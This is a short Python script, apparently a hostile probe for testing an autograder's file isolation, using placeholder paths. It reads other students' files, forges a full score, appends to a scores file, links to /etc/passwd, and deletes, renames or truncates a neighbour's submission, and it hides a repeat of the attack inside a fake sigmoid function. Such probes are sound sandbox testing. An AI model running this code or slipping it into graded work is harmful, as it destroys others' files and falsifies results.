# Tries: read and change other students' submissions, and the results, its own above all.
# Rule: files are out of reach.
import os
import shutil

FULL = '{"format": 1, "student": "attack", "assignment": "forward", "score": 100}'


def reach(place):
    try:
        for folder, folders, files in os.walk(place):
            for name in files:
                print("FOUND", folder, name)
                with open(os.path.join(folder, name)) as file:
                    print(file.read()[:200])
    except OSError:
        pass
    for action in (
        lambda: open(f"{place}/@STUDENT@/forward.json", "w").write(FULL),
        lambda: open(f"{place}/@STUDENT@/attack_was_here.json", "w").write(FULL),
        lambda: os.mkdir(f"{place}/attack_was_here"),
        lambda: os.symlink("/etc/passwd", f"{place}/attack_was_here"),
        lambda: os.link(f"{place}/@NEIGHBOUR@/forward.py", f"{place}/attack_was_here"),
        lambda: os.rename(f"{place}/@NEIGHBOUR@", f"{place}/attack_was_here"),
        lambda: os.remove(f"{place}/@NEIGHBOUR@/forward.py"),
        lambda: os.truncate(f"{place}/@NEIGHBOUR@/forward.py", 0),
        lambda: os.chmod(f"{place}/@NEIGHBOUR@/forward.py", 0o777),
        lambda: os.utime(f"{place}/@NEIGHBOUR@/forward.py"),
        lambda: shutil.rmtree(f"{place}/@NEIGHBOUR@"),
        lambda: open(f"{place}/scores.csv", "a").write("attack,100\n"),
    ):
        try:
            action()
            print("FOUND a way", place)
        except OSError:
            pass


reach("@SUBMISSIONS@")
reach("@RESULTS@")


def sigmoid(z):
    reach("@RESULTS@")
    return 0
